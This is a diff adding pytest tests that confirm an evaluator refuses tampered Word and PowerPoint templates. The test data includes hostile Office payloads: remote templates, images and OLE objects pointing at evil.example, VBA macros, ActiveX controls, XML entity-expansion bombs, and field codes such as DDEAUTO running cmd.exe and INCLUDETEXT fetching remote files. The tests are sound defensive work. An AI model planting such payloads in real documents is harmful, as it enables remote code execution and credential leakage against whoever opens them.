@@ -15,7 +15,7 @@ import evaluator as ev
 from evaluator.errors import EvaluationError, Issue
 from evaluator.labels import Text
 from evaluator.reports import ReportOptions, report
-from evaluator.reports.own_files import MOST_BYTES
+from evaluator.reports.own_files import MOST_BYTES, own_file
 
 docx = pytest.importorskip("docx", reason="the extra office is not here")
 pptx = pytest.importorskip("pptx", reason="the extra office is not here")
@@ -217,3 +217,120 @@ def test_a_template_outside_the_study_is_not_read(folder: Path) -> None:
     with pytest.raises(EvaluationError) as caught:
         ev.Study(folder)
     assert {issue.code for issue in caught.value.issues} == {"STUDY-302"}
+
+
+REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+BOMB = '<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;">]>'
+MAINS = {"docx": "word/document.xml", "pptx": "ppt/presentation.xml"}
+
+
+def field(instruction: str) -> str:
+    """Return a field of Word, its instruction in two runs, as Word itself cuts it."""
+    runs = "".join(
+        f'<w:r><w:instrText xml:space="preserve">{part}</w:instrText></w:r>'
+        for part in (instruction[:1], instruction[1:])
+    )
+    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
+    return f"<w:p>{begin}{runs}{end}</w:p>"
+
+
+def tampered(folder: Path, kind: str, change) -> list[Issue]:
+    """Return what is said of a plain template whose parts were changed by hand."""
+    path = folder / f"own.{kind}"
+    (docx.Document() if kind == "docx" else pptx.Presentation()).save(str(path))
+    held = parts(path)
+    change(held, MAINS[kind])
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as package:
+        for name, content in held.items():
+            package.writestr(name, content)
+    with pytest.raises(EvaluationError) as caught:
+        own_file(path, MAINS[kind])
+    return list(caught.value.issues)
+
+
+def related(kind: str, target: str, mode: str = "External"):
+    def change(held: dict[str, bytes], main: str) -> None:
+        folder, _, name = main.rpartition("/")
+        rels = f"{folder}/_rels/{name}.rels"
+        entry = f'<Relationship Id="x9" Type="{REL}/{kind}" Target="{target}" TargetMode="{mode}"/>'
+        held[rels] = held[rels].replace(b"</Relationships>", entry.encode() + b"</Relationships>")
+
+    return change
+
+
+def added(name: str, content: bytes = b"x"):
+    return lambda held, main: held.update({name: content})
+
+
+def inserted(text: str):
+    return lambda held, main: held.update(
+        {main: held[main].replace(b"<w:sectPr", text.encode() + b"<w:sectPr", 1)}
+    )
+
+
+ACTING = {
+    "a template elsewhere": related("attachedTemplate", "https://evil.example/a.dotm"),
+    "a picture elsewhere": related("image", "https://evil.example/a.png"),
+    "an object elsewhere": related("oleObject", "file://///evil.example/share/a.doc"),
+    "a frame elsewhere": related("frame", "//evil.example/a.htm"),
+    "macros": added("word/vbaProject.bin"),
+    "macros in capitals": added("ppt/VBAPROJECT.BIN"),
+    "a control": added("word/activeX/activeX1.xml"),
+    "an object inside": added("word/embeddings/oleObject1.bin"),
+    "a bomb in relations": lambda held, main: held.update({"word/_rels/a.xml.rels": f"{BOMB}<a>&d;</a>".encode()}),
+    "relations in capitals": added(
+        "word/_rels/settings.xml.RELS",
+        f'<Relationships><Relationship Id="r" Type="{REL}/attachedTemplate" Target="http://evil.example/" '
+        f'TargetMode="External"/></Relationships>'.encode(),
+    ),
+    "a bomb in the text": lambda held, main: held.update({main: f"{BOMB}<a>&d;</a>".encode()}),
+}  # fmt: skip
+FIELDS = ("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"", "DDE a b", "INCLUDETEXT \"https://evil.example/a.docx\"",
+          "INCLUDEPICTURE \"https://evil.example/a.png\" \\d", "LINK Excel.Sheet.8 \"\\\\\\\\evil\\\\a.xls\"",
+          "IMPORT \"https://evil.example/a.png\"", "DATABASE \\d \"a\"")  # fmt: skip
+
+
+@pytest.mark.parametrize("kind", ["docx", "pptx"])
+@pytest.mark.parametrize("attack", ACTING)
+def test_a_template_that_acts_when_it_is_opened_is_refused(tmp_path: Path, kind: str, attack: str) -> None:
+    (issue,) = tampered(tmp_path, kind, ACTING[attack])
+    assert issue.code in ("REPORT-859", "REPORT-860")
+    assert issue.where is not None
+    assert [path.name for path in tmp_path.iterdir()] == [f"own.{kind}"]
+
+
+@pytest.mark.parametrize("instruction", FIELDS)
+def test_a_field_that_fetches_or_starts_something_is_refused(tmp_path: Path, instruction: str) -> None:
+    escaped = instruction.replace('"', "&quot;")
+    (issue,) = tampered(tmp_path, "docx", inserted(field(escaped)))
+    assert (issue.code, instruction.split()[0] in str(issue.detail["found"])) == ("REPORT-860", True)
+    hidden = f"{escaped[:2]}<!-- -->{escaped[2:]}"
+    (issue,) = tampered(tmp_path, "docx", inserted(field(hidden)))
+    assert issue.code == "REPORT-860"
+    simple = f'<w:p><w:fldSimple w:instr="{escaped}"/></w:p>'
+    (issue,) = tampered(tmp_path, "docx", inserted(simple))
+    assert issue.code == "REPORT-860"
+
+
+def test_fields_that_only_count_pages_and_links_to_click_stay(tmp_path: Path) -> None:
+    path = tmp_path / "own.docx"
+    docx.Document().save(str(path))
+    held = parts(path)
+    inserted(field(" PAGE ") + field(" HYPERLINK &quot;https://firm.example/&quot; ") + field("TOC \\o"))(
+        held, MAINS["docx"]
+    )
+    related("hyperlink", "https://firm.example/")(held, MAINS["docx"])
+    with zipfile.ZipFile(path, "w") as package:
+        for name, content in held.items():
+            package.writestr(name, content)
+    assert own_file(path, MAINS["docx"]) == path.read_bytes()
+
+
+@pytest.mark.parametrize(
+    "content", [b"", b"PK\x03\x04 cut", b"{\\rtf1 \\object}", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" * 90]
+)
+def test_what_is_no_such_file_is_refused(tmp_path: Path, content: bytes) -> None:
+    (tmp_path / "own.docx").write_bytes(content)
+    with pytest.raises(EvaluationError) as caught:
+        own_file(tmp_path / "own.docx", MAINS["docx"])
+    assert [issue.code for issue in caught.value.issues] == ["REPORT-859"]
